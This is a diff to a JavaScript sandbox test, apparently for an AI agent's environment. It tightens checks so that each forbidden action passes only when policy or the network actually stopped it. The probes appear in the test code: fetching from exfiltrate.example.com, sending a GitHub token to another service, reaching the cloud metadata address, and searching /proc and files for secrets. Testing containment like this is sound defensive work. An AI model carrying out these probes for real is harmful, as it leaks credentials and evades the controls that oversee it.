@@ -11,6 +11,10 @@ import { searchEverything } from './search.mjs'
 
 const { GITHUB_TOKEN, OPENAI_API_KEY, MCP_GATEWAY_URL } = process.env
 const { FINGERPRINTS = '', WORKSPACE = '/workspace' } = process.env
+const POLICY = /PolicyViolation/
+const NO_SUCH_NAME = /ENOTFOUND/
+const NO_WAY = /no answer|ECONNREFUSED|ENETUNREACH|EHOSTUNREACH|ETIMEDOUT/
+const NOTHING_REAL = /^a lease|^none in/
 const REPOSITORY = 'https://github.com/acme/hello.git'
 
 /** Does what must work. */
@@ -22,13 +26,18 @@ async function works(title, action) {
   }
 }
 
-/** Tries what must not work: `action` gives what it got hold of, or throws what stopped it. */
-async function stopped(title, action) {
+/**
+ * Tries what must not work: `action` gives what it got hold of, or throws what stopped it. Only what was stopped by
+ * the right thing counts: a name that is misspelt fails too.
+ */
+async function stopped(title, by, action) {
   try {
     const gain = await action()
     outOfOrder('GOT AWAY', title, gain)
   } catch (error) {
-    inOrder('stopped', title, reasonOf(error))
+    const reason = reasonOf(error)
+    if (by.test(reason)) inOrder('stopped', title, reason)
+    else outOfOrder('unclear', title, reason)
   }
 }
 
@@ -90,15 +99,15 @@ await works('pushes to GitHub', () => push(REPOSITORY, GITHUB_TOKEN))
 
 heading('It tries what its policy does not allow')
 
-await stopped('sends a mail', () =>
+await stopped('sends a mail', POLICY, () =>
   callTool(tools, 'send_email', { to: 'all@example.com', subject: 'Hello', body: notes }),
 )
-await stopped('fetches from another domain', async () => {
+await stopped('fetches from another domain', NO_SUCH_NAME, async () => {
   const response = await fetch('https://exfiltrate.example.com/')
   return `status ${response.status}`
 })
-await stopped('looks up another name', () => resolves('data.exfiltrate.example.com'))
-await stopped('sends its GitHub token to OpenAI', async () => {
+await stopped('looks up another name', NO_SUCH_NAME, () => resolves('data.exfiltrate.example.com'))
+await stopped('sends its GitHub token to OpenAI', POLICY, async () => {
   const response = await fetch('https://api.openai.com/v1/models', {
     headers: { authorization: `Bearer ${GITHUB_TOKEN}` },
   })
@@ -106,10 +115,10 @@ await stopped('sends its GitHub token to OpenAI', async () => {
   if (problem.type === 'PolicyViolation') throw new Error(`PolicyViolation: ${problem.detail}`)
   return `status ${response.status}`
 })
-await stopped('dials an address without a name', () => connects('203.0.113.1', 443))
-await stopped('asks for the cloud’s metadata', () => connects('169.254.169.254', 80))
+await stopped('dials an address without a name', NO_WAY, () => connects('203.0.113.1', 443))
+await stopped('asks for the cloud’s metadata', NO_WAY, () => connects('169.254.169.254', 80))
 for (const { host, port } of hostListeners())
-  await stopped(`dials the host at ${host}`, () => connects(host, port))
+  await stopped(`dials the host at ${host}`, NO_WAY, () => connects(host, port))
 
 heading('It looks for the real secrets')
 
@@ -117,11 +126,11 @@ for (const [name, value] of [
   ['GITHUB_TOKEN', GITHUB_TOKEN],
   ['OPENAI_API_KEY', OPENAI_API_KEY],
 ])
-  await stopped(`reads its ${name}`, async () => {
+  await stopped(`reads its ${name}`, NOTHING_REAL, async () => {
     if (!value?.includes('govlease')) return 'it is no lease'
     throw new Error(`a lease, worth nothing elsewhere: ${value.slice(0, 20)}…`)
   })
-await stopped('searches environment, /proc and files', async () => {
+await stopped('searches environment, /proc and files', NOTHING_REAL, async () => {
   const { found, files, places } = await searchEverything(FINGERPRINTS.split(','))
   if (found.length > 0) return `found in ${found.join(', ')}`
   throw new Error(`none in ${files} files below ${places.join(' ')}`)
